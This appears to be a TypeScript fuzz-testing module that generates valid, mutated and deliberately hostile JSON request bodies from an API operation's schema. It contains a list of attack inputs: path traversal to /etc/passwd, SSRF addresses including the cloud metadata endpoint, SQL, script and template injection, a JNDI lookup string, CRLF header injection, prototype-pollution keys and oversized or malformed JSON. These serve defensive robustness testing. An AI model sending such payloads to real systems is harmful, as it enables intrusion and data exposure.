// Bodies made from an operation's own JSON Schema: right ones, nearly right ones and hostile ones.
import fc from 'fast-check'
import { z } from 'zod'

/** Stands in every credential that is sent: whoever finds it in an answer or a log has found a leak. */
export const SECRET_MARK = 'planted-5ecret-7f3a'

const MAX_STRING = 400

export interface JsonSchema {
  readonly type?: string | readonly string[] | undefined
  readonly enum?: readonly unknown[] | undefined
  readonly const?: unknown
  readonly anyOf?: readonly JsonSchema[] | undefined
  readonly oneOf?: readonly JsonSchema[] | undefined
  readonly properties?: Readonly<Record<string, JsonSchema>> | undefined
  readonly required?: readonly string[] | undefined
  readonly items?: JsonSchema | undefined
  readonly minItems?: number | undefined
  readonly maxItems?: number | undefined
  readonly minLength?: number | undefined
  readonly maxLength?: number | undefined
  readonly minimum?: number | undefined
  readonly maximum?: number | undefined
  readonly pattern?: string | undefined
  readonly format?: string | undefined
  readonly 'x-secret'?: boolean | undefined
}

export const jsonSchema: z.ZodType<JsonSchema> = z.lazy(() =>
  z.looseObject({
    type: z.union([z.string(), z.array(z.string())]).optional(),
    enum: z.array(z.unknown()).optional(),
    anyOf: z.array(jsonSchema).optional(),
    oneOf: z.array(jsonSchema).optional(),
    properties: z.record(z.string(), jsonSchema).optional(),
    required: z.array(z.string()).optional(),
    items: jsonSchema.optional(),
    minItems: z.number().optional(),
    maxItems: z.number().optional(),
    minLength: z.number().optional(),
    maxLength: z.number().optional(),
    minimum: z.number().optional(),
    maximum: z.number().optional(),
    pattern: z.string().optional(),
    format: z.string().optional(),
    'x-secret': z.boolean().optional(),
  }),
)

/** Raw request bodies for an operation. @param examples inputs that it documents */
export function bodiesFor(schema: JsonSchema, examples: readonly unknown[]): fc.Arbitrary<string> {
  const valid = valueFor(schema)
  const mutated = fc
    .tuple(fc.oneof(valid, fc.constantFrom(...examples)), mutation(schema))
    .map(([value, mutate]) => mutate(value))
  return fc.oneof(
    { weight: 3, arbitrary: valid.map(text) },
    { weight: 6, arbitrary: mutated.map(text) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map(text) },
    { weight: 1, arbitrary: hostileText },
  )
}

function text(value: unknown): string {
  return JSON.stringify(value) ?? ''
}

/** Values that the schema allows, or nearly so: what it cannot say is left out. */
function valueFor(schema: JsonSchema): fc.Arbitrary<unknown> {
  const { const: constant, enum: values, anyOf, oneOf, type } = schema
  if (constant !== undefined) return fc.constant(constant)
  if (values !== undefined) return fc.constantFrom(...values)
  const choices = anyOf ?? oneOf
  if (choices !== undefined && choices.length > 0) return fc.oneof(...choices.map(valueFor))
  switch (Array.isArray(type) ? type[0] : type) {
    case 'object':
      return objectOf(schema)
    case 'array':
      return fc.array(valueFor(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 5, 5),
      })
    case 'string':
      return stringOf(schema)
    case 'integer':
      return fc.oneof(
        fc.integer({ min: clamp(schema.minimum, -1000), max: clamp(schema.maximum, 1000) }),
        fc.constantFrom(clamp(schema.minimum, 0), clamp(schema.maximum, 0)),
      )
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true })
    case 'boolean':
      return fc.boolean()
    case 'null':
      return fc.constant(null)
    default:
      return fc.jsonValue({ maxDepth: 1 })
  }
}

function clamp(bound: number | undefined, otherwise: number): number {
  return bound === undefined ? otherwise : Math.max(-(2 ** 31), Math.min(2 ** 31 - 1, bound))
}

function objectOf({ properties = {}, required = [] }: JsonSchema): fc.Arbitrary<unknown> {
  const members = Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, valueFor(schema)]))
  return fc.record(members, { requiredKeys: required.filter((name) => name in members) })
}

function stringOf(schema: JsonSchema): fc.Arbitrary<string> {
  const { pattern, format, minLength = 0, maxLength = MAX_STRING } = schema
  const bounds = { minLength: Math.min(minLength, MAX_STRING), maxLength: Math.min(maxLength, MAX_STRING) }
  if (schema['x-secret'])
    return fc.string({ ...bounds, maxLength: 20 }).map((rest) => `http://u:${SECRET_MARK}@a.test/${rest}`)
  const plain = fc.oneof(fc.string(bounds), fc.string({ ...bounds, unit: 'grapheme' }))
  if (format === 'uri') return fc.oneof(fc.webUrl(), plain)
  if (format === 'email') return fc.oneof(fc.emailAddress(), plain)
  if (pattern === undefined) return fc.oneof(plain, fc.webUrl(), fc.constantFrom(...namesOfThings))
  // Look-around is beyond the generator; such fields get texts that fit by luck.
  const matching = /\(\?[!=<]/.test(pattern)
    ? fc.stringMatching(/^[A-Za-z0-9._-]{1,30}$/)
    : fc.stringMatching(new RegExp(pattern))
  return fc.oneof({ weight: 4, arbitrary: matching }, { weight: 1, arbitrary: plain })
}

const namesOfThings = [
  '.',
  '..',
  '../../../etc/passwd',
  'http://127.0.0.1/',
  'http://[::1]:22/',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '%00',
  '%2e%2e%2f',
  'a\u0000b',
  'a\r\nx-injected: 1',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '{{7*7}}',
  '$' + '{jndi:ldap://a.test/x}',
  'constructor',
  '__proto__',
  '\u202eabc',
  'I\u0307\u0131\u212a',
  '\ud83d\ude00'.repeat(50),
  '(a+)+$',
  'a'.repeat(5000),
] as const

const hostileValues: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    false,
    '',
    ' ',
    0,
    -0,
    -1,
    1.5,
    1e308,
    -1e308,
    2 ** 53,
    'NaN',
    'Infinity',
    [],
    {},
    [[]],
    [null],
  ),
  fc.constantFrom(...namesOfThings),
  fc.jsonValue({ maxDepth: 2 }),
  fc.string({ unit: 'binary', maxLength: 200 }).map((raw) => raw.toWellFormed()),
  fc.constantFrom(10_000, 100_000).map((length) => 'x'.repeat(length)),
  fc.constantFrom(100, 3000).map(nested),
)

function nested(depth: number): unknown {
  let value: unknown = 1
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? [value] : { a: value }
  return value
}

type Mutate = (value: unknown) => unknown

/** One change of a right input: a member replaced, left out, renamed, or added. */
function mutation({ properties = {} }: JsonSchema): fc.Arbitrary<Mutate> {
  const names = fc.constantFrom(...Object.keys(properties), 'noSuchField')
  const change = (value: unknown, work: (members: Map<string, unknown>) => void) => {
    const members = new Map(Object.entries(typeof value === 'object' && value !== null ? value : {}))
    work(members)
    // `fromEntries` defines even `__proto__` as a member of its own.
    return Object.fromEntries(members)
  }
  return fc.oneof(
    fc.tuple(names, hostileValues).map(
      ([name, hostile]): Mutate =>
        (value) =>
          change(value, (members) => members.set(name, hostile)),
    ),
    names.map(
      (name): Mutate =>
        (value) =>
          change(value, (members) => members.delete(name)),
    ),
    fc.tuple(fc.constantFrom('__proto__', 'constructor', 'toString', '', 'a.b', 'proxyUrl'), hostileValues).map(
      ([name, hostile]): Mutate =>
        (value) =>
          change(value, (members) => members.set(name, hostile)),
    ),
    hostileValues.map(
      (hostile): Mutate =>
        () =>
          hostile,
    ),
  )
}

/** Bodies that no serializer makes. */
const hostileText = fc.oneof(
  fc.constantFrom(
    '{',
    '}',
    '[]',
    'null',
    'NaN',
    '{"a":NaN}',
    '{"a":1e999}',
    '{"a":-0}',
    '{"a":"\\ud800"}',
    '{"\\udfff":1}',
    '{"a":1,"a":2}',
    '{"__proto__":{"polluted":true}}',
    '\ufeff{}',
    '{}\u0000',
    "{'a':1}",
    '{"a":0x10}',
    '{/**/}',
    `{"title":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
    `${'['.repeat(100_000)}`,
    `{${Array.from({ length: 5000 }, (_, i) => `"k${i}":${i}`).join(',')}}`,
    `{"title":1${'0'.repeat(50_000)}}`,
  ),
  fc.string({ unit: 'binary', maxLength: 300 }).map((raw) => raw.toWellFormed()),
)
